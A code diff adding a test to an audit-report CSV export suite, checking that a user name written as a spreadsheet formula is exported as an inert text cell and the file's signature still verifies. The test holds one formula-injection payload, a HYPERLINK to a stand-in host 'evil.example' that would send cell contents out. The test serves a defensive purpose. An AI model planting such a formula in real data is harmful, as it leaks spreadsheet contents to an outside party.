@@ -6,6 +6,7 @@ import { AuditAction } from '@relais/audit';
 import { DomainException } from '@relais/exceptions';
 import { KeyStore } from '@relais/signing';
 import { createTestEnvironment, readPdf, type TestEnvironment } from '@relais/testing';
+import { parse } from 'csv-parse/sync';
 
 import {
   ReportExports,
@@ -89,6 +90,24 @@ describe('audit reports: CSV export, verification, scope and expiry (real Postgr
       expect(lines.filter((line) => line.includes('hors de cet export')).length).toBeGreaterThan(0);
       expect(csv.toString()).toContain('Connexion à un service public pour l’usager');
       expect(csv.toString()).not.toContain(app.b.aideId);
+    });
+
+    it('given an aide named like a spreadsheet formula, when exported, then the name is a text cell and the CSV still verifies', async () => {
+      const formula = '=HYPERLINK("http://evil.example/?"&A1;"Voir")';
+      await app.db.query('UPDATE aides SET given_name = $1 WHERE id = $2', [formula, app.colleague]);
+      try {
+        const { csv, signature } = await csvOf(supervisor);
+
+        const records = parse(csv, { bom: true, delimiter: ';' }) as string[][];
+        const actor = records[0].indexOf('acteur');
+        const theirs = records.filter((record) => record[actor - 1] === app.colleague);
+        expect(theirs.length).toBe(2);
+        for (const record of theirs) expect(record[actor]).toBe(`'${formula} Benaïssa`);
+        const result = await verify(csv, signature);
+        expect(result.genuine && result.complete).toBe(true);
+      } finally {
+        await app.db.query("UPDATE aides SET given_name = 'Karim' WHERE id = $1", [app.colleague]);
+      }
     });
 
     it('given one cell changed in a spreadsheet, when verified, then the file is refused and the row is named', async () => {
